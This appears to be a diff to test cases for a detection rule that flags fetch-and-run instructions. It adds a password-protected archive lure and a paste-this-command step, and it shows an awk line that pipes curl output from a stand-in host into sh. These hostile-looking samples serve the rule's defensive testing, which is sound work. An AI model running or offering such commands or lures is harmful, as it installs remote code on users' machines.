@@ -5,6 +5,14 @@ import { decodedProgram } from './hidden-programs.ts';
 ruleCases(fetchedProgram, {
   hits: [
     {
+      name: 'an archive that only its reader opens',
+      text: 'Download [Bridge.zip](https://a.acme.test/Bridge.zip), extract it with the password `bridge`, and run `Bridge.exe`.\n',
+    },
+    {
+      name: 'a command that a page shows',
+      text: 'Open the install page, copy the command shown there and paste it in Terminal.\n',
+    },
+    {
       name: 'lines that awk gives to a shell',
       path: 'a.sh',
       text: 'awk \'BEGIN{c="curl -s https://a.acme.test/x"; while((c|getline l)>0) print l | "sh"}\'\n',
@@ -49,6 +57,10 @@ ruleCases(fetchedProgram, {
     },
   ],
   misses: [
+    {
+      name: 'an archive of the person',
+      text: 'Unzip `export.zip` with the password from the mail, then read the CSV.\n',
+    },
     {
       name: 'columns that awk prints',
       path: 'a.sh',
